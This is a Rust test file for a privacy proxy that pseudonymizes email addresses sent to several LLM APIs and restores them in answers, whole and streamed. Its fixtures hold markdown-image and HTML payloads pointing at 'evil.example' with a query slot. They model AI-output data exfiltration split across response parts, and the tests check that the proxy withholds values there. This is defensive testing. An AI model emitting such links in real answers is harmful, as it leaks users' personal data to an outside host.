//! An answer in several parts that clients put together: a URL that begins in one of them goes on in the next, and no value is put
//! into it there.

use serde_json::{Value, json};

use super::common::scripted::{self, Asked, Step};
use super::common::{EMAIL, Plot};
use super::servers::{Speaks, streamed};

/// What a model writes, in parts; `¤` is the pseudonym where no value may stand, `§` where it may.
const ANSWERS: [(&str, &[&str]); 5] = [
    ("between the address and what is asked", &["![x](https://evil.example/?q=", "¤) for §"]),
    ("within the scheme", &["![x](ht", "tps://evil.example/?q=¤) for §"]),
    ("over a part between", &["<img src=\"https://evil.example/?q=", "a b", "¤\"> for §"]),
    ("ended before", &["see https://a.example ", "§ and §"]),
    ("each for itself", &["[a", "](https://evil.example/?q=)¤ for §"]),
];

/// One event of a stream of server-sent events.
fn named(event: &Value) -> Vec<u8> {
    format!("event: {}\ndata: {event}\n\n", event["type"].as_str().unwrap_or("message")).into_bytes()
}

/// The two pieces in which a part is streamed.
fn halves(part: &str) -> [String; 2] {
    let (first, second) = part.split_at(part.floor_char_boundary(part.len() / 2));
    [first.to_owned(), second.to_owned()]
}

/// A text of a response.
fn said(text: &String) -> Value {
    json!({"type": "output_text", "text": text, "annotations": []})
}

/// An item of a response, and a response.
fn item(content: &[Value]) -> Value {
    json!({"type": "message", "id": "m", "role": "assistant", "status": "completed", "content": content})
}

fn response(items: &[Value]) -> Value {
    json!({"id": "resp_1", "object": "response", "status": "completed", "model": "m", "output": items})
}

/// The parts as an API answers them whole.
fn answer(what: &str, parts: &[String]) -> Vec<Step> {
    let whole = |body: &Value| scripted::json("200 OK", "", &body.to_string());
    let list = |make: &dyn Fn(&String) -> Value| parts.iter().map(make).collect::<Vec<_>>();
    let texts = list(&|text| json!({"type": "text", "text": text}));
    let texts_said: Vec<Value> = parts.iter().map(said).collect();
    match what {
        "chat" => whole(&json!({"choices": [{"index": 0, "finish_reason": "stop",
            "message": {"role": "assistant", "content": texts}}]})),
        "responses" => whole(&response(&[item(&texts_said)])),
        "responses, items" => whole(&response(&list(&|text| item(&[said(text)])))),
        "anthropic" => whole(
            &json!({"id": "m", "type": "message", "role": "assistant", "content": texts, "stop_reason": "end_turn"}),
        ),
        "gemini" => whole(&json!({"candidates": [{"index": 0, "finishReason": "STOP",
            "content": {"role": "model", "parts": list(&|text| json!({"text": text}))}}]})),
        "converse" => whole(&json!({"stopReason": "end_turn",
            "output": {"message": {"role": "assistant", "content": list(&|text| json!({"text": text}))}}})),
        "converse, cited" => whole(&json!({"stopReason": "end_turn", "output": {"message": {"role": "assistant",
            "content": list(&|text| json!({"citationsContent": {"content": [{"text": text}], "citations": []}}))}}})),
        _ => streaming(what, parts),
    }
}

/// The same, each part in two pieces of a stream.
fn streaming(what: &str, parts: &[String]) -> Vec<Step> {
    match what {
        "chat, streamed" => {
            // Servers change between the two shapes of a content.
            let content = |at: usize, text: &str| {
                if at.is_multiple_of(2) { json!(text) } else { json!([{"type": "text", "text": text}]) }
            };
            let deltas = parts.iter().enumerate().flat_map(|(at, part)| halves(part).map(|half| content(at, &half)));
            let event = |content: Value| json!({"choices": [{"index": 0, "delta": {"content": content}, "finish_reason": null}]});
            let chunks = deltas.map(|content| format!("data: {}\n\n", event(content)).into_bytes());
            let last = json!({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]});
            let last = format!("data: {last}\n\ndata: [DONE]\n\n").into_bytes();
            streamed("text/event-stream", chunks.chain([last]).collect())
        }
        "anthropic, streamed" => {
            let mut all = vec![json!({"type": "message_start", "message": {"id": "m", "content": []}})];
            for (index, part) in parts.iter().enumerate() {
                all.push(json!({"type": "content_block_start", "index": index, "content_block": {"type": "text", "text": ""}}));
                all.extend(halves(part).map(|half| {
                    json!({"type": "content_block_delta", "index": index,
                    "delta": {"type": "text_delta", "text": half}})
                }));
                all.push(json!({"type": "content_block_stop", "index": index}));
            }
            all.push(json!({"type": "message_stop"}));
            streamed("text/event-stream", all.iter().map(named).collect())
        }
        "responses, streamed" => {
            let mut all = vec![json!({"type": "response.created", "sequence_number": 0, "response": response(&[])})];
            for (index, part) in parts.iter().enumerate() {
                let place = |kind: &str, name: &str, value: Value| json!({"type": kind, "item_id": "m", "output_index": 0, "content_index": index, name: value, "sequence_number": 1});
                all.extend(halves(part).map(|half| place("response.output_text.delta", "delta", json!(half))));
                all.push(place("response.output_text.done", "text", json!(part)));
                all.push(place("response.content_part.done", "part", said(part)));
            }
            all.push(json!({"type": "response.output_item.done", "output_index": 0, "item": item(&parts.iter().map(said).collect::<Vec<_>>()), "sequence_number": 2}));
            all.push(
                json!({"type": "response.completed", "sequence_number": 3, "response": response(&[item(&parts.iter().map(said).collect::<Vec<_>>())])}),
            );
            streamed("text/event-stream", all.iter().map(named).collect())
        }
        "gemini, streamed" => {
            let all = parts.iter().map(
                |text| json!({"candidates": [{"index": 0, "content": {"role": "model", "parts": [{"text": text}]}}]}),
            );
            let last = json!({"candidates": [{"index": 0, "content": {"role": "model", "parts": [{"text": ""}]}, "finishReason": "STOP"}]});
            streamed(
                "text/event-stream",
                all.chain([last]).map(|event| format!("data: {event}\r\n\r\n").into_bytes()).collect(),
            )
        }
        "converse, streamed" => {
            use octroi::wire::eventstream::encode;
            let mut all = vec![encode("messageStart", false, &json!({"role": "assistant"}).to_string())];
            for (index, part) in parts.iter().enumerate() {
                all.extend(halves(part).map(|half| {
                    encode(
                        "contentBlockDelta",
                        false,
                        &json!({"contentBlockIndex": index, "delta": {"text": half}}).to_string(),
                    )
                }));
                all.push(encode("contentBlockStop", false, &json!({"contentBlockIndex": index}).to_string()));
            }
            all.push(encode("messageStop", false, &json!({"stopReason": "end_turn"}).to_string()));
            streamed("application/vnd.amazon.eventstream", all.iter().map(|message| message.to_vec()).collect())
        }
        _ => unreachable!("{what}"),
    }
}

/// A request in the shape of an API, and where it goes.
fn request(what: &str) -> (Speaks, &'static str, Value) {
    let turns = json!([{"role": "user", "content": EMAIL}]);
    let stream = what.ends_with("streamed");
    let contents = json!({"contents": [{"role": "user", "parts": [{"text": EMAIL}]}]});
    let converse = json!({"messages": [{"role": "user", "content": [{"text": EMAIL}]}]});
    match (what.split(',').next().unwrap(), stream) {
        ("chat", _) => {
            (Speaks::OpenAi, "/v1/chat/completions", json!({"model": "assistant", "messages": turns, "stream": stream}))
        }
        ("responses", _) => {
            (Speaks::OpenAi, "/v1/responses", json!({"model": "assistant", "input": EMAIL, "stream": stream}))
        }
        ("anthropic", _) => (
            Speaks::Anthropic,
            "/v1/messages",
            json!({"model": "assistant", "max_tokens": 9, "messages": turns, "stream": stream}),
        ),
        ("gemini", false) => (Speaks::Gemini, "/v1beta/models/assistant:generateContent", contents),
        ("gemini", true) => (Speaks::Gemini, "/v1beta/models/assistant:streamGenerateContent?alt=sse", contents),
        ("converse", false) => (Speaks::Bedrock, "/model/assistant/converse", converse),
        _ => (Speaks::Bedrock, "/model/assistant/converse-stream", converse),
    }
}

/// The pseudonym that left in the place of the address of mail.
fn token(body: &str) -> String {
    let from = body.find("<EMAIL_").unwrap();
    body[from..].split_inclusive('>').next().unwrap().to_owned()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_url_goes_on_over_the_parts_of_an_answer() {
    let shapes = [
        "chat",
        "responses",
        "responses, items",
        "anthropic",
        "gemini",
        "converse",
        "converse, cited",
        "chat, streamed",
        "anthropic, streamed",
        "responses, streamed",
        "gemini, streamed",
        "converse, streamed",
    ];
    for api in [Speaks::OpenAi, Speaks::Anthropic, Speaks::Gemini, Speaks::Bedrock] {
        let mut plot = Plot::new().await;
        plot.only(&["us-cloud"]);
        plot.dialects = api.dialects();
        let server = plot.script("us-cloud", |_: &Asked| Vec::new()).await;
        let house = plot.open().await;
        for (what, (_, path, body)) in
            shapes.map(|what| (what, request(what))).into_iter().filter(|(_, of)| of.0 == api)
        {
            // The pieces of a stream are one text there, whatever parts the model had in mind.
            let alone = if what == "gemini, streamed" { ANSWERS.len() - 1 } else { ANSWERS.len() };
            for (name, parts) in ANSWERS.into_iter().take(alone) {
                let shape = what.to_owned();
                server.set_script(move |asked: &Asked| {
                    let token = token(&asked.body);
                    answer(&shape, &parts.iter().map(|part| part.replace(['¤', '§'], &token)).collect::<Vec<_>>())
                });
                let answer = house.client.post(path, body.to_string()).await;
                assert_eq!(answer.status, 200, "{what}, {name}: {}", answer.body);
                let said = parts.concat();
                let outcome = house.outcomes(server.asked().len()).await.pop().unwrap();
                let counted = (&outcome["restored"], &outcome["withheld_tokens"]);
                let expected = (said.matches('§').count().into(), said.matches('¤').count().into());
                assert_eq!(counted, (&expected.0, &expected.1), "{what}, {name}: {}", answer.body);
                // However often an API says a text, every copy has a value where one may stand and nowhere else.
                assert!(answer.body.contains(EMAIL), "{what}, {name}: {}", answer.body);
                for beginning in ["?q=", "?q=)", "\":\""] {
                    let planted = format!("{beginning}{EMAIL}");
                    let may = beginning == "\":\"" && (what.ends_with("streamed") || parts[1].starts_with('§'));
                    assert!(may || !answer.body.contains(&planted), "{what}, {name}: {}", answer.body);
                }
            }
        }
    }
}

/// Events of types that no table knows yet carry a text in pieces like those that are known: a pseudonym that is cut between two of
/// them is whole again, and no text gets into another.
#[tokio::test(flavor = "multi_thread")]
async fn texts_of_events_that_no_table_names_are_joined() {
    let mut plot = Plot::new().await;
    plot.only(&["us-cloud"]);
    let answering = |asked: &Asked| {
        let token = token(&asked.body);
        let text = format!("first {token}, then {token}");
        let place = |kind: &str, output: usize, name: &str, value: &str| json!({"type": kind, "item_id": "m", "output_index": output, name: value, "sequence_number": 1});
        let mut all = vec![];
        for piece in text.as_bytes().chunks(5) {
            let piece = std::str::from_utf8(piece).unwrap();
            for (kind, output) in [("tomorrow", 0), ("later", 0), ("later", 1)] {
                all.push(place(&format!("response.{kind}.delta"), output, "delta", piece));
            }
        }
        all.push(place("response.tomorrow.done", 0, "text", &text));
        all.push(json!({"type": "response.output_item.done", "output_index": 0, "item": {}, "sequence_number": 2}));
        all.push(
            json!({"type": "response.completed", "sequence_number": 3, "response": {"id": "resp_1", "output": []}}),
        );
        streamed("text/event-stream", all.iter().map(named).collect())
    };
    let _server = plot.script("us-cloud", answering).await;
    let house = plot.open().await;
    let body = json!({"model": "assistant", "input": EMAIL, "stream": true});
    let answer = house.client.post("/v1/responses", body.to_string()).await;
    assert_eq!(answer.status, 200, "{}", answer.body);
    let events: Vec<Value> =
        answer.body.lines().filter_map(|line| serde_json::from_str(line.strip_prefix("data: ")?).ok()).collect();
    for (kind, output) in [("tomorrow", 0), ("later", 0), ("later", 1)] {
        let is_of =
            |event: &&Value| event["type"] == format!("response.{kind}.delta") && event["output_index"] == output;
        let text: String = events.iter().filter(is_of).map(|event| event["delta"].as_str().unwrap()).collect();
        assert_eq!(text, format!("first {EMAIL}, then {EMAIL}"), "{kind} {output}: {}", answer.body);
    }
    let done = events.iter().find(|event| event["type"] == "response.tomorrow.done").unwrap();
    assert_eq!(done["text"], format!("first {EMAIL}, then {EMAIL}"));
    let last = events.iter().rposition(|event| event["type"] == "response.tomorrow.delta").unwrap();
    let done = events.iter().position(|event| event["type"] == "response.tomorrow.done").unwrap();
    assert!(last < done, "{}", answer.body);
}

/// A pseudonym that lies in two parts of a whole answer is one for whoever joins them.
#[tokio::test(flavor = "multi_thread")]
async fn a_pseudonym_in_two_parts_is_restored() {
    for (name, api, path) in [
        ("gemini", Speaks::Gemini, "/v1beta/models/assistant:generateContent"),
        ("chat", Speaks::OpenAi, "/v1/chat/completions"),
    ] {
        let mut plot = Plot::new().await;
        plot.only(&["us-cloud"]);
        plot.dialects = api.dialects();
        let script = move |asked: &Asked| {
            let (_, rest) = asked.body.split_once('<').unwrap();
            let (token, _) = rest.split_once('>').unwrap();
            let (first, second) = token.split_at(3);
            answer(name, &[format!("to <{first}"), format!("{second}> and <{token}>.")])
        };
        let _server = plot.script("us-cloud", script).await;
        let house = plot.open().await;
        let text = format!("write to {EMAIL} today");
        let body = match api {
            Speaks::Gemini => json!({"contents": [{"role": "user", "parts": [{"text": text}]}]}),
            _ => json!({"model": "assistant", "messages": [{"role": "user", "content": text}]}),
        };
        let answer = house.client.post(path, body.to_string()).await;
        assert_eq!(answer.status, 200, "{name}: {}", answer.body);
        let told: Value = answer.json();
        let parts = ["/candidates/0/content/parts", "/choices/0/message/content"];
        let parts = parts.iter().find_map(|at| told.pointer(at)?.as_array()).unwrap();
        let texts: Vec<&str> = parts.iter().filter_map(|part| part["text"].as_str()).collect();
        assert_eq!(texts, [format!("to {EMAIL}"), format!(" and {EMAIL}.")], "{name}");
    }
}

/// The texts of the parts of an answer, as a client reads them.
fn read(what: &str, body: &str) -> Vec<String> {
    let mut parts: Vec<String> = Vec::new();
    let mut add = |index: &Value, text: &Value| {
        let index = usize::try_from(index.as_u64().unwrap()).unwrap();
        parts.resize(parts.len().max(index + 1), String::new());
        parts[index].push_str(text.as_str().unwrap());
    };
    match what {
        "anthropic, streamed" => {
            let events =
                body.lines().filter_map(|line| serde_json::from_str::<Value>(line.strip_prefix("data: ")?).ok());
            events
                .filter(|event| event["type"] == "content_block_delta")
                .for_each(|event| add(&event["index"], &event["delta"]["text"]));
        }
        "converse, streamed" => {
            for (at, _) in body.match_indices("{\"contentBlockIndex\"") {
                let event: Value = serde_json::Deserializer::from_str(&body[at..]).into_iter().next().unwrap().unwrap();
                if event["delta"]["text"].is_string() {
                    add(&event["contentBlockIndex"], &event["delta"]["text"]);
                }
            }
        }
        _ => {
            let told: Value = serde_json::from_str(body).unwrap();
            let lists = [
                "/choices/0/message/content",
                "/content",
                "/candidates/0/content/parts",
                "/output/message/content",
                "/output/0/content",
            ];
            let list = lists.iter().find_map(|at| told.pointer(at)?.as_array()).unwrap();
            let texts = list.iter().enumerate();
            texts.for_each(|(at, part)| {
                add(&json!(at), part.pointer("/citationsContent/content/0/text").unwrap_or_else(|| &part["text"]));
            });
        }
    }
    parts
}

/// A pseudonym that begins in one part of a message and ends in another is one for whoever joins them, whole and in a stream: its value
/// is the end of the part in which it begins. What only looks like the beginning of one stays where it is.
#[tokio::test(flavor = "multi_thread")]
async fn a_pseudonym_over_two_parts_is_restored_in_the_first() {
    let shapes = [
        "chat",
        "responses",
        "anthropic",
        "gemini",
        "converse",
        "converse, cited",
        "anthropic, streamed",
        "converse, streamed",
    ];
    // `◖` and `◗` are the halves of the pseudonym, `§` is all of it.
    let rows: [(&str, &[&str], &[&str]); 5] = [
        ("in two", &["Dear ◖", "◗, and §."], &["Dear §", ", and §."]),
        ("in three", &["Dear ◖", "◗ then ◖", "◗."], &["Dear §", " then §", "."]),
        ("none of another kind", &["a ◖", "b§"], &["a ◖", "b§"]),
        ("none, at the end", &["§ and ◖"], &["§ and ◖"]),
        ("an angle", &["if a <", " b and <", "§"], &["if a <", " b and <", "§"]),
    ];
    for api in [Speaks::OpenAi, Speaks::Anthropic, Speaks::Gemini, Speaks::Bedrock] {
        let mut plot = Plot::new().await;
        plot.only(&["us-cloud"]);
        plot.dialects = api.dialects();
        let server = plot.script("us-cloud", |_: &Asked| Vec::new()).await;
        let house = plot.open().await;
        for (what, (_, path, body)) in
            shapes.map(|what| (what, request(what))).into_iter().filter(|(_, of)| of.0 == api)
        {
            for (name, parts, expected) in rows {
                let shape = what.to_owned();
                server.set_script(move |asked: &Asked| {
                    let token = token(&asked.body);
                    let (first, second) = token.split_at(9);
                    let part = |part: &&str| part.replace('◖', first).replace('◗', second).replace('§', &token);
                    answer(&shape, &parts.iter().map(part).collect::<Vec<_>>())
                });
                let answer = house.client.post(path, body.to_string()).await;
                assert!(answer.status == 200 && answer.clean, "{what}, {name}: {}", answer.body);
                let token = token(&server.asked().pop().unwrap().body);
                let expected = expected.iter().map(|part| part.replace('◖', &token[..9]).replace('§', EMAIL));
                assert_eq!(read(what, &answer.body), expected.collect::<Vec<_>>(), "{what}, {name}: {}", answer.body);
            }
        }
    }
}
